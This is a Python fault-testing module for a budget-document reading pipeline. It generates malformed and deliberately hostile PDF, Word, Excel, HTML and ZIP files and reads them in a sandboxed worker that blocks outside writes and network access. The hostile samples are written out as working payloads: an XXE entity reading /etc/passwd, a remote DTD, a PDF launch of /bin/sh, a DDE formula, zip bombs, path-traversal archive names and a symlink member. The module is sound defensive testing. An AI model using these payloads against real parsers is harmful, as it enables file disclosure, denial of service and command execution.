"""Documents that were damaged, mislabelled or made to harm, and what reading makes of them.

Belongs here: sound documents of each format, what is done to them, and reading them as a build does, watched for anything written
outside of the build's own folders. Does not belong here: tests.

`python -m tests.faults.mutated_documents 1000 2026 2` reads a thousand of the seed 2026 with two workers, prints what became of them and
writes docs/reference/hostile-documents.md.
"""

from __future__ import annotations

import functools
import io
import os
import random
import re
import sys
import tempfile
import zipfile
import zlib
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

from pipeline.archive.intake import readable_name, take_in
from pipeline.archive.readings import Readings, Version
from pipeline.archive.registry import Registry
from pipeline.archive.store import Store
from pipeline.readers import reader
from pipeline.reading import Claim, Reading, read_document
from pipeline.warehouse.documents import Progress, read_all, unread
from pipeline.warehouse.workers import Limits
from tests.faults import hostile_documents as hostile
from tests.faults.site import encrypted_zip, zip_bomb, zip_of

REPORT = Path(__file__).parents[2] / "docs" / "reference" / "hostile-documents.md"
LIMITS = Limits(seconds=60, memory_mebibytes=1024)
_WATCHED = {
    "os.mkdir",
    "os.rename",
    "os.remove",
    "os.rmdir",
    "os.link",
    "os.symlink",
    "os.truncate",
    "os.chmod",
    "os.chown",
}
_PLAIN_AMOUNT = re.compile(r"-?\d[\d,]*\.\d\d")
_WRITING = os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC | os.O_APPEND

ROWS = [
    ("科目编码", "科目名称", "合计", "基本支出", "项目支出"),
    ("", "合计", "1,250.50", "1,000.25", "250.25"),
    ("201", "一般公共服务支出", "1,250.50", "1,000.25", "250.25"),
    ("20103", "政府办公厅（室）及相关机构事务", "1,250.50", "1,000.25", "250.25"),
    ("2010301", "行政运行", "1,000.25", "1,000.25", ""),
    ("2010302", "一般行政管理事务", "250.25", "", "250.25"),
]
SLOW = {
    "a bomb inside.docx",
    "a hundred thousand paragraphs in one cell.docx",
    "a mark with a million attributes.html",
    "a picture of nine hundred megabytes.pdf",
    "a row of twenty thousand cells.docx",
    "a table of a hundred thousand cells.docx",
    "fifty megabytes of a script.html",
    "fifty megabytes.html",
    "forms that draw ten forms each, twelve deep.pdf",
    "one sheet three thousand times.xlsx",
    "states saved three million times.pdf",
    "two hundred thousand cells.xlsx",
    "two hundred thousand merged rows.xlsx",
    "a million cells.html",
    "a stream that unpacks to much.pdf",
    "rich text without an end.doc",
}
"""Documents that take more than some seconds to be refused."""

TITLE = "2026年部门预算"
FORM = "一般公共预算支出表"
WORDS = (
    "2026年部门预算说明：本部门收入预算1,250.50万元，其中一般公共预算财政拨款1,250.50万元，无政府性基金预算。支出预算1,250.50万元，其中"
    "基本支出1,000.25万元，项目支出250.25万元。财政拨款支出按功能分类为一般公共服务支出。"
)


# Sound documents


@functools.cache
def sound_documents() -> dict[str, bytes]:
    """One small disclosure in each format that can be made here, by extension."""
    return {
        "pdf": _pdf(),
        "docx": _docx(),
        "xlsx": _xlsx(),
        "html": _html().encode(),
        "md": _markdown().encode(),
        "zip": zip_of({"预算/表.html": _html().encode(), "预算/表.pdf": _pdf()}),
    }


def _pdf(pages: int = 1) -> bytes:
    from reportlab.lib import colors
    from reportlab.lib.pagesizes import A4
    from reportlab.lib.styles import ParagraphStyle
    from reportlab.pdfbase import pdfmetrics
    from reportlab.pdfbase.cidfonts import UnicodeCIDFont
    from reportlab.platypus import PageBreak, Paragraph, SimpleDocTemplate, Table, TableStyle

    pdfmetrics.registerFont(UnicodeCIDFont("STSong-Light"))
    style = ParagraphStyle("body", fontName="STSong-Light", fontSize=12, leading=18)
    grid = TableStyle([("GRID", (0, 0), (-1, -1), 0.5, colors.black), ("FONT", (0, 0), (-1, -1), "STSong-Light", 9)])
    story: list[object] = []
    for _ in range(pages):
        story += [
            Paragraph(f"试验市财政局{TITLE}", style),
            Paragraph(WORDS, style),
            Paragraph(FORM, style),
            Paragraph("单位：万元", style),
        ]
        story += [Table(ROWS, style=grid), PageBreak()]
    data = io.BytesIO()
    SimpleDocTemplate(data, pagesize=A4, invariant=1).build(story)
    return data.getvalue()


def _docx() -> bytes:
    import docx

    document = docx.Document()
    for line in (f"试验市财政局{TITLE}", WORDS, FORM, "单位：万元"):
        document.add_paragraph(line)
    table = document.add_table(len(ROWS), len(ROWS[0]))
    for row, values in enumerate(ROWS):
        for column, value in enumerate(values):
            table.cell(row, column).text = value
    data = io.BytesIO()
    document.save(data)
    return _repacked(data.getvalue(), {})


def _xlsx() -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for line in ((f"2026年{FORM}",), ("部门：试验市财政局",), ("单位：万元",), *ROWS):
        sheet.append(line)
    for row in (1, 2, 3):
        sheet.merge_cells(start_row=row, end_row=row, start_column=1, end_column=len(ROWS[0]))
    data = io.BytesIO()
    book.save(data)
    return _repacked(
        data.getvalue(),
        {"docProps/core.xml": lambda xml: re.sub(rb"\d{4}-\d\d-\d\dT[\d:]+Z", b"2026-01-01T00:00:00Z", xml)},
    )


def _html(rows: str | None = None) -> str:
    cells = rows or "".join("<tr>" + "".join(f"<td>{value}</td>" for value in row) + "</tr>" for row in ROWS)
    return (
        f"<!DOCTYPE html><html><head><meta charset='utf-8'><title>试验市财政局{TITLE}</title></head><body><h1>试验市财政局{TITLE}</h1>"
        f"<p>{WORDS}</p><p>{FORM}</p><p>单位：万元</p><table border='1'>{cells}</table></body></html>"
    )


def _markdown() -> str:
    lines = ["| " + " | ".join(row) + " |" for row in ROWS]
    return "\n".join(
        [
            f"# 试验市财政局{TITLE}",
            "",
            f"## {FORM}",
            "",
            "单位：万元",
            "",
            lines[0],
            "|---|---|---|---|---|",
            *lines[1:],
            "",
        ]
    )


def _repacked(data: bytes, changes: dict[str, Callable[[bytes], bytes]]) -> bytes:
    """A package with some of its parts changed, otherwise the same bytes each time."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return zip_of({name: changes.get(name, lambda part: part)(package.read(name)) for name in package.namelist()})


# Documents made to harm


def hostile_documents() -> Iterator[tuple[str, bytes]]:
    """Each a way to exhaust, mislead or escape from a reader, as (name, bytes)."""
    sound = sound_documents()
    deep = b"[" * 200_000 + b"]" * 200_000
    yield "nested arrays.pdf", _plain_pdf(b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/X " + deep + b">>")
    yield "a page that is its own parent.pdf", _plain_pdf(b"<</Type/Pages/Kids[3 0 R 2 0 R]/Count 2/Parent 3 0 R>>")
    yield (
        "a billion pages announced.pdf",
        _plain_pdf(b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>", count=1_000_000_000),
    )
    yield "many pages.pdf", _plain_pdf(b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>", count=20_000, kids=20_000)
    yield "a page as wide as a country.pdf", _plain_pdf(b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99999999 99999999]>>")
    yield "a page without size.pdf", _plain_pdf(b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 0 0]>>")
    yield "a size that is no number.pdf", _plain_pdf(b"<</Type/Page/Parent 2 0 R/MediaBox[/A(b)null nan]>>")
    packed = zlib.compress(b"0 0 m 9 9 l S\n" * 4_000_000)
    content = b"<</Length %d/Filter/FlateDecode>>stream\n" % len(packed) + packed + b"\nendstream"
    yield (
        "a stream that unpacks to much.pdf",
        _plain_pdf(b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R>>", content),
    )
    many = b" ".join(b"%d 0 m %d 999 l S" % (index % 999, index % 997) for index in range(60_000))
    lines = b"<</Length %d>>stream\n" % len(many) + many + b"\nendstream"
    yield (
        "sixty thousand lines.pdf",
        _plain_pdf(b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 999 999]/Contents 4 0 R>>", lines),
    )
    yield "an xref that leads to itself.pdf", re.sub(rb"startxref\s+\d+", b"startxref\n9", sound["pdf"])
    yield "encrypted by nobody.pdf", sound["pdf"].replace(b"trailer\n<<", b"trailer\n<</Encrypt 1 0 R")
    script = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/AA<</O<</S/JavaScript/JS(app.alert(1))>>>>>>"
    yield "with a script.pdf", _plain_pdf(script)
    launch = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/AA<</O<</S/Launch/F(/bin/sh)>>>>>>"
    yield "with a program.pdf", _plain_pdf(launch)

    def in_docx(change: Callable[[bytes], bytes]) -> bytes:
        return _repacked(sound["docx"], {"word/document.xml": change})

    laughs = b'<!DOCTYPE l [<!ENTITY a "ha">' + b"".join(
        b'<!ENTITY %c "%s">' % (98 + index, b"&%c;" % (97 + index) * 10) for index in range(12)
    )
    yield (
        "a billion laughs.docx",
        in_docx(lambda xml: laughs + b"]>" + xml.split(b"?>", 1)[1].replace(b"</w:t>", b"&m;</w:t>", 1)),
    )
    entity = b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    yield (
        "with a file of this machine.docx",
        in_docx(lambda xml: entity + xml.split(b"?>", 1)[1].replace(b"</w:t>", b"&x;</w:t>", 1)),
    )
    remote = b'<!DOCTYPE d SYSTEM "http://192.0.2.1/evil.dtd">'
    yield "with a remote definition.docx", in_docx(lambda xml: remote + xml.split(b"?>", 1)[1])
    yield "nested deeply.docx", in_docx(lambda xml: xml.replace(b"<w:body>", b"<w:body>" + b"<w:sdt>" * 50_000, 1))
    yield (
        "tables in tables.docx",
        in_docx(
            lambda xml: xml.replace(
                b"<w:body>",
                b"<w:body>" + b"<w:tbl><w:tr><w:tc>" * 3000 + b"<w:p/>" + b"</w:tc></w:tr></w:tbl>" * 3000,
                1,
            )
        ),
    )
    yield (
        "a cell over a billion columns.docx",
        in_docx(lambda xml: re.sub(rb"<w:tcPr>", b'<w:tcPr><w:gridSpan w:val="1000000000"/>', xml, count=1)),
    )
    yield "nothing inside.docx", zip_of({"word/document.xml": b""})
    yield "a bomb inside.docx", _repacked(sound["docx"], {"word/document.xml": lambda xml: xml + b" " * 400_000_000})

    def in_xlsx(change: Callable[[bytes], bytes]) -> bytes:
        return _repacked(sound["xlsx"], {"xl/worksheets/sheet1.xml": change})

    yield (
        "the last cell of the sheet.xlsx",
        in_xlsx(
            lambda xml: xml.replace(
                b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
            )
        ),
    )
    yield (
        "one cell over all.xlsx",
        in_xlsx(
            lambda xml: xml.replace(
                b"</sheetData>", b'</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
            )
        ),
    )
    yield "cells that are nowhere.xlsx", in_xlsx(lambda xml: re.sub(rb'r="A(\d)"', rb'r="ZZZZZZ\g<1>0000000000"', xml))
    yield (
        "a formula.xlsx",
        in_xlsx(
            lambda xml: xml.replace(
                b"</sheetData>", b'<row r="99"><c r="A99"><f>cmd|"/c calc"!A0</f></c></row></sheetData>'
            )
        ),
    )
    yield "without a workbook.xlsx", zip_of({"xl/worksheets/sheet1.xml": b"<worksheet/>"})

    yield (
        "tables in tables.html",
        _html("<tr><td><table>" * 5000 + "<tr><td>1</td></tr>" + "</table></td></tr>" * 5000).encode(),
    )
    yield (
        "a cell over a billion rows.html",
        _html('<tr><td rowspan="1000000000" colspan="1000000000">1</td></tr>').encode(),
    )
    yield "a million cells.html", _html("<tr><td>1.00" * 300_000).encode()
    yield "never closed.html", b"<html>" + b"<div>" * 300_000
    yield "a line of a megabyte.md", ("| " + "9" * 1_000_000 + " |\n" + _markdown()).encode()
    yield (
        "an amount of ten thousand digits.html",
        _html(f"<tr><td>2010301</td><td>行政运行</td><td>{'9' * 10_000}.99</td></tr>").encode(),
    )
    yield "a table of one column a thousand times.md", ("|" * 20_000 + "\n|" + "---|" * 20_000 + "\n").encode()
    yield "other alphabets.html", _html("<tr><td>１２３</td><td>٣٤</td><td>௧௨</td><td>−1</td></tr>").encode("utf-16")

    yield "a bomb.zip", zip_bomb(300)
    yield "bombs in bombs.zip", zip_bomb(20, 4)
    nested = sound["pdf"]
    for index in range(60):
        nested = zip_of({f"{index}.zip" if index else "a.pdf": nested})
    yield "sixty deep.zip", nested
    yield "locked.zip", encrypted_zip()
    yield (
        "leaving the folder.zip",
        zip_of(
            {
                name: sound["html"] + name.encode()
                for name in ("../../../../tmp/escaped.html", "/etc/escaped.html", "C:\\escaped.html", "a/../../b.html")
            }
        ),
    )
    yield (
        "names of nothing.zip",
        zip_of({"": b"x", ".": b"y", "a\x00b.html": sound["html"], "预" * 400 + ".html": sound["html"]}),
    )
    yield "a link.zip", _zip_with_link()
    yield "many members.zip", zip_of({f"{index}.txt": b"%d" % index for index in range(3000)})
    yield "no end.zip", sound["zip"][:-30]
    yield "nothing.pdf", b""
    yield "blank.pdf", b"\n" * 5000
    yield "noise.pdf", random.Random(1).randbytes(50_000)
    yield "only a name.pdf", b"%PDF-1.7"
    yield "old Word without a document.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096)
    yield "old Word of noise.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + random.Random(2).randbytes(8192)
    yield "rich text without an end.doc", b"{\\rtf1" + b"{" * 50_000
    yield from hostile.pdfs(sound["pdf"])
    yield from hostile.words(in_docx, sound["docx"])
    yield from hostile.workbooks(in_xlsx, sound["xlsx"])
    yield from hostile.web_pages(_html)
    yield from hostile.archives(sound["html"])
    for name in hostile.names():
        yield name, hostile.distinct(sound["html"], name)
    for claimed, real in (("pdf", "docx"), ("xlsx", "html"), ("docx", "xlsx"), ("html", "pdf"), ("zip", "md")):
        yield f"{real} that calls itself.{claimed}", sound[real]


def _plain_pdf(page: bytes, content: bytes = b"<<>>", count: int = 1, kids: int = 1) -> bytes:
    """A PDF written by hand around one page object, which may be named several times."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[" + b"3 0 R " * kids + b"]/Count %d>>" % count,
        page,
        content,
    ]
    data = b"%PDF-1.4\n"
    places = []
    for number, body in enumerate(objects, start=1):
        places.append(len(data))
        data += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(data)
    data += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    data += b"".join(b"%010d 00000 n \n" % place for place in places)
    return data + b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)


def _zip_with_link() -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        link = zipfile.ZipInfo("预算.html")
        link.create_system = 3
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return data.getvalue()


# Documents that were damaged at random


def damaged_documents(seed: int, bases: dict[str, bytes] | None = None) -> Iterator[tuple[str, bytes]]:
    """Sound documents, damaged, without end; the same for the same seed."""
    chance = random.Random(seed)  # a play of damages, no secret
    bases = bases or sound_documents()
    number = 0
    while True:
        number += 1
        extension = chance.choice(sorted(bases))
        damage = chance.choice(_DAMAGES)
        data = bases[extension]
        for _ in range(chance.choice([1, 1, 1, 3])):
            data = damage(data, chance)
        if chance.random() < 0.2:
            extension = chance.choice(sorted(bases))
        yield f"{number:04d} {damage.__name__.strip('_')}.{extension}", data


def _truncated(data: bytes, chance: random.Random) -> bytes:
    return data[: chance.randrange(len(data) + 1)]


def _headless(data: bytes, chance: random.Random) -> bytes:
    return data[chance.randrange(min(2000, len(data) + 1)) :]


def _flipped(data: bytes, chance: random.Random) -> bytes:
    damaged = bytearray(data)
    for _ in range(chance.choice([1, 5, 50]) if damaged else 0):
        damaged[chance.randrange(len(damaged))] ^= 1 << chance.randrange(8)
    return bytes(damaged)


def _holed(data: bytes, chance: random.Random) -> bytes:
    start = chance.randrange(len(data) + 1)
    size = chance.choice([1, 16, 512, 4096])
    return data[:start] + bytes(min(size, len(data) - start)) + data[start + size :]


def _repeated(data: bytes, chance: random.Random) -> bytes:
    start = chance.randrange(len(data) + 1)
    part = data[start : start + chance.choice([10, 200, 3000])]
    return data[:start] + part * chance.choice([2, 50]) + data[start:]


def _swapped(data: bytes, chance: random.Random) -> bytes:
    middle = chance.randrange(len(data) + 1)
    return data[middle:] + data[:middle]


def _padded(data: bytes, chance: random.Random) -> bytes:
    noise = chance.randbytes(chance.choice([1, 500, 70_000]))
    return chance.choice([noise + data, data + noise])


def _numbers_changed(data: bytes, chance: random.Random) -> bytes:
    """Lengths, counts, offsets and spans that lie."""
    numbers = list(re.finditer(rb"(?<![\d.])\d{1,7}(?![\d.])", data))
    for match in sorted(
        chance.sample(numbers, min(len(numbers), chance.choice([1, 4]))), key=lambda match: -match.start()
    ):
        lie = chance.choice([b"0", b"-1", b"4294967296", b"99999999999999999999", b"1e999", b"65535"])
        data = data[: match.start()] + lie + data[match.end() :]
    return data


def _inside_damaged(data: bytes, chance: random.Random) -> bytes:
    """A package whose wrapping is sound and whose content is not."""
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as package:
            members = {name: package.read(name) for name in package.namelist()}
    except (zipfile.BadZipFile, ValueError, OSError, NotImplementedError, RuntimeError, zlib.error, EOFError):
        return _flipped(data, chance)
    if not members:
        return data
    name = chance.choice(sorted(members))
    act = chance.choice([_truncated, _flipped, _holed, _repeated, _numbers_changed, None])
    if act is None:
        del members[name]
    else:
        members[name] = act(members[name], chance)
    return zip_of(members)


_DAMAGES = (_truncated, _headless, _flipped, _holed, _repeated, _swapped, _padded, _numbers_changed, _inside_damaged)


# Reading them as a build does


@dataclass
class Fate:
    """What became of one document."""

    name: str
    progress: Progress


def read_watched(data: bytes, claim: Claim) -> Reading:
    """Read a document in a worker that may neither write outside of the folder it was given nor speak to any host.

    Every number of what is loaded must be a figure or stand in a refusal, however damaged the document is.
    """
    _watch()
    reading = read_document(data, claim)
    accounted = {figure["cell_id"] for figure in reading.rows.get("figure", ())}
    accounted |= {cell_id for refusal in reading.rows.get("refusal", ()) for cell_id in refusal["cell_ids"]}
    lost = [
        cell
        for cell in reading.rows.get("cell", ())
        if _PLAIN_AMOUNT.fullmatch(cell["text"]) and cell["cell_id"] not in accounted
    ]
    if lost:
        told = ", ".join(f"{cell['text']} ({cell['cell_id']})" for cell in lost[:5])
        raise AssertionError(f"DROPPED IN SILENCE: {len(lost)} amounts, {told}")
    return reading


@functools.cache
def _watch() -> None:
    allowed = (os.path.realpath(os.environ["YUSUAN_FAULTS_FOLDER"]), "/dev/null", "/dev/shm/", "/proc/self/")

    def is_outside(path: object) -> bool:
        return isinstance(path, str | bytes | os.PathLike) and not os.path.realpath(os.fsdecode(path)).startswith(
            allowed
        )

    def hook(event: str, arguments: tuple[object, ...]) -> None:
        if event == "open":
            path, mode, flags = arguments
            writes = any(letter in str(mode or "") for letter in "wax+") or (
                isinstance(flags, int) and flags & _WRITING
            )
            if writes and is_outside(path):
                raise PermissionError(f"WROTE OUTSIDE: {path!r}")
        elif event in _WATCHED and any(is_outside(path) for path in arguments[:2]):
            raise PermissionError(f"CHANGED OUTSIDE: {event} {arguments!r}")
        elif event in ("socket.connect", "socket.getaddrinfo", "os.system"):
            raise PermissionError(f"REACHED OUTSIDE: {event} {arguments!r}")

    sys.addaudithook(hook)


def read_documents(
    documents: Iterator[tuple[str, bytes]], folder: Path, jobs: int = 1, limits: Limits = LIMITS
) -> list[Fate]:
    """Put the documents into a folder, take them in and read them as a build does; return what became of each.

    Every document taken in has exactly one fate; documents with the same bytes are one.
    """
    raw = folder / "raw"
    raw.mkdir(parents=True)
    for number, (name, data) in enumerate(documents):
        (raw / f"{number:04d} {name}").write_bytes(data)
    variables = {"YUSUAN_FAULTS_FOLDER": str(folder), "TMPDIR": str(folder / "tmp"), "PYTHONDONTWRITEBYTECODE": "1"}
    (folder / "tmp").mkdir()
    before = {name: os.environ.get(name) for name in variables}
    os.environ.update(variables)
    try:
        store, readings = Store(folder / "archive"), Readings(folder / "readings")
        members = lambda data: reader.members(data) if reader.is_archive(data) else ()  # noqa: E731
        taken = take_in([raw], store, members, folder / "index.json")
        work = unread(taken, Registry(), store, readings, Version("faults"), limits)
        fates = [Fate(step.file_name, step) for step in read_all(work, jobs, limits, read_watched)]
    finally:
        for name, value in before.items():
            if value is None:
                os.environ.pop(name, None)
            else:
                os.environ[name] = value
    if len(fates) != len(taken):
        raise AssertionError(f"{len(taken)} documents were taken in and {len(fates)} were accounted for")
    return sorted(fates, key=lambda fate: fate.name)


def chosen(count: int, seed: int) -> Iterator[tuple[str, bytes]]:
    """So many documents: those made to harm first, then damaged ones."""
    left = count
    for document in hostile_documents():
        if not left:
            return
        left -= 1
        yield document
    damaged = damaged_documents(seed)
    for _ in range(left):
        yield next(damaged)


def kind(name: str) -> str:
    """Under which heading the table counts a document, told from the name that it was given here."""
    if "/" in name:
        return "found inside an archive"
    damaged = re.match(r"\d{4} \d{4} (\w+)\.", name)
    if damaged:
        return f"damaged: {damaged[1].replace('_', ' ')}"
    if name[5:] in {readable_name(each) for each in hostile.names()}:
        return "made to harm: a name"
    return f"made to harm: {name.rsplit('.', 1)[-1]}"


def report(fates: list[Fate], seed: int) -> str:
    """The page docs/reference/hostile-documents.md."""
    counts: dict[str, Counter[str]] = {}
    reasons: Counter[str] = Counter()
    slowest: dict[str, float] = {}
    for fate in fates:
        of_kind = counts.setdefault(kind(fate.name), Counter())
        reason = (fate.progress.reason or "").split(":")[0]
        of_kind["failed" if reason == "reader_failed" else fate.progress.status] += 1
        if fate.progress.status == "refused":
            reasons[reason] += 1
        slowest[kind(fate.name)] = max(slowest.get(kind(fate.name), 0.0), fate.progress.seconds)
    lines = [
        "# Damaged and hostile documents",
        "",
        "Written by `python -m tests.faults.mutated_documents` (a part of `make faults` reads the same documents); not edited by hand.",
        "",
        f"{len(fates):,} documents, seed {seed}, each read in a worker with {LIMITS} that may neither write outside of the build's "
        "folders nor speak to any host. Every amount of a loaded document is a figure or stands in a refusal. *Failed* are those on "
        "which a reader broke off by an error of its own; the aim is none.",
        "",
        "| kind | documents | loaded | partly loaded | refused with a reason | failed | slowest, s |",
        "| --- | ---: | ---: | ---: | ---: | ---: | ---: |",
    ]
    for name in sorted(counts):
        of_kind = counts[name]
        cells = [sum(of_kind.values()), *(of_kind[each] for each in ("loaded", "partly_loaded", "refused", "failed"))]
        lines.append(f"| {name} | {' | '.join(str(cell) for cell in cells)} | {slowest[name]:.1f} |")
    lines += ["", "| reason of refusal | documents |", "| --- | ---: |"]
    lines += [f"| {reason} | {times} |" for reason, times in reasons.most_common()]
    lines += ["", "## The slowest", "", "| document | seconds | what became of it |", "| --- | ---: | --- |"]
    for fate in sorted(fates, key=lambda each: -each.progress.seconds)[:12]:
        told = (fate.progress.reason or fate.progress.status).split(";")[0].split("(")[0].strip()[:100]
        lines.append(f"| {fate.name[5:]} | {fate.progress.seconds:.1f} | {told.replace('|', ' ')} |")
    return "\n".join(lines) + "\n"


def main() -> None:
    """Read documents, print what became of them and write the report; ends with 1 where a reader failed."""
    count = int(sys.argv[1]) if len(sys.argv) > 1 else 1000
    seed = int(sys.argv[2]) if len(sys.argv) > 2 else 2026
    jobs = int(sys.argv[3]) if len(sys.argv) > 3 else 2
    with tempfile.TemporaryDirectory() as folder:
        fates = read_documents(chosen(count, seed), Path(folder) / "faults", jobs)
    told = report(fates, seed)
    print(told)
    if count >= 1000:
        REPORT.write_text(told, encoding="utf-8")
    failed = [fate for fate in fates if (fate.progress.reason or "").startswith("reader_failed")]
    for fate in failed:
        print(f"failed: {fate.name}: {fate.progress.reason}")
    sys.exit(1 if failed else 0)


if __name__ == "__main__":
    # Workers import what they run by its module's name, which is not `__main__`.
    from tests.faults import mutated_documents

    mutated_documents.main()
